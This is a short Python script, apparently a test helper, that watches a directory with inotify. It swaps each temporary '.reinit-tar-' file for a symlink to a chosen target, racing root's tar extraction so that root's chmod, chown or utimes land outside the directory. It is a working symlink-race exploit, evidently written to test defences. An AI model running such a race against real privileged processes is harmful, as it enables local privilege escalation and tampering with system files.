"""The owner of a directory racing root's tar in it: every temporary name that
appears there (inotify IN_CREATE) is swapped at once for a symlink to the
target given, the way an attacker would try to turn root's chmod, chown or
utimes of that name onto a file outside the directory.

usage: racer.py DIR TARGET -- prints "ready" once watching, then one line per
swap; runs until killed."""

import ctypes
import os
import struct
import sys

IN_CREATE, IN_MOVED_TO, IN_ONLYDIR = 0x100, 0x80, 0x01000000


def main():
    top, target = sys.argv[1], sys.argv[2]
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_CLOEXEC)
    wds = {}

    def watch(d):
        wd = libc.inotify_add_watch(fd, d.encode(), IN_CREATE | IN_MOVED_TO | IN_ONLYDIR)
        if wd >= 0:
            wds[wd] = d

    watch(top)
    if not wds:
        sys.exit(f"racer: cannot watch {top}: {os.strerror(ctypes.get_errno())}")
    print("ready", flush=True)
    n = 0
    while True:
        buf = os.read(fd, 65536)
        while buf:
            wd, mask, _, ln = struct.unpack_from("iIII", buf)
            name = buf[16:16 + ln].rstrip(b"\0").decode(errors="replace")
            buf = buf[16 + ln:]
            path = os.path.join(wds.get(wd, top), name)
            if not name.startswith(".reinit-tar-"):
                # A directory tar made: race in it too.
                if os.path.isdir(path) and not os.path.islink(path):
                    watch(path)
                continue
            n += 1
            bait = os.path.join(wds.get(wd, top), f"bait{n}")
            try:
                os.symlink(target, bait)
                os.rename(bait, path)
                print(f"swapped {path}", flush=True)
            except OSError:
                pass


if __name__ == "__main__":
    main()
